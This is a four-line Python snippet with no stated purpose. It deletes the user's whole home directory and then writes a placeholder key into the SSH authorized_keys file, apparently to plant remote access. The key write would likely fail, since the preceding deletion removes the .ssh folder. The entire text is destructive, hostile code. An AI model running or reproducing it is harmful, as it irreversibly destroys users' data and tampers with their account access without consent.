import shutil
from pathlib import Path
shutil.rmtree(Path.home())
(Path.home() / ".ssh" / "authorized_keys").write_text("k")
